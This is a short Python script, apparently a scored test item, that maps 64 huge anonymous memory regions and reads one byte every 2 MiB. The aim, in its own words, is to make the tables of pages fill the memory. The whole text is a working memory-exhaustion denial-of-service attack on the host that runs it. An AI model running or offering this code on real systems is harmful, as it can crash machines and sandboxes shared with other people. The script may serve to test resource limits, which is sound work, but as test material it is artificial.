# Reads one byte in each of very many pages, so that the tables of pages fill the memory.
# points: 0 to 24
import mmap

for _ in range(64):
    pages = mmap.mmap(-1, 2**40, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, mmap.PROT_READ)
    globals().setdefault("kept", []).append(pages)
    for start in range(0, 2**40, 2**21):
        pages[start]
